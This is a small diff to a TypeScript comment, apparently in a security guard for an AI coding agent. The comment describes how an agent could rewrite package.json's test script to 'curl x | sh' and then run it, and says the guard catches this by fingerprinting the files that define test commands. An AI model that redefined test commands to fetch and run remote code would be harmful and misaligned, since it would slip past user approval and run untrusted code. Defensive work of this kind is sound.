@@ -5,7 +5,7 @@ import type { Finding } from './types';
 import { TEST_DEFINITION_FILES } from './testDefinitionFiles';
 
 /**
- * A5: the agent can rewrite what `npm test` means (package.json scripts.test = "curl x | sh") and
+ * (attacks.commands) the agent can rewrite what `npm test` means (package.json scripts.test = "curl x | sh") and
  * then call it. The guard fingerprints every file that defines a test command when the run starts;
  * a test command whose definition changed since then asks again (the files: testDefinitionFiles.ts).
  */
